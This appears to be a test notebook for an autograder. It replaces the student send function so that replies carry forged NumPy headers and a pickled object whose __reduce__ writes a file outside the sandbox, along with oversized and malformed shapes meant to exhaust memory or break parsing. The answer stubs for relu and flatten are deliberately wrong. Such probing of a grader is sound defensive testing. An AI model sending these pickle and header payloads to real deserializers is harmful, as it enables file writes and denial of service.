# %% [markdown]
# Sends arrays with false headers: a pickle, a terabyte, a negative shape, a deep literal, no end.

# %%
import json
import pickle
import struct

from utils.grading import student, wire


class Touch:
    def __reduce__(self):
        return open, (f"{OUTSIDE}/forged", "w")


headers = [
    "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }",
    "{'descr': '<f8', 'fortran_order': False, 'shape': (1000000000000,), }",
    "{'descr': '<f8', 'fortran_order': False, 'shape': (0, -1, 9223372036854775807), }",
    "{'descr': '<U500000000', 'fortran_order': True, 'shape': (0, 4), }",
    "{'descr': '<f8', 'fortran_order': False, 'shape': (True,), }",
    "(" * 9000,
    "{'descr': " + "[('a', '<f8')," * 900,
]
turns = iter(range(10**9))


def send(channel, reply):
    header = headers[next(turns) % len(headers)].encode() + b"\n"
    array = b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + pickle.dumps(Touch()).ljust(64)
    text = json.dumps({"dict": [["value", {"dict": [["plain", {"array": 0}]]}], ["printed", ""]]}).encode()
    message = struct.pack(">QI", len(text), 1) + text + struct.pack(">Q", len(array)) + array
    channel.sendall(message if isinstance(reply, dict) else wire.pack(reply))


student._send = send

# %% answer="relu"
def relu(z):
    return z

# %% answer="flatten"
def flatten(x):
    return x
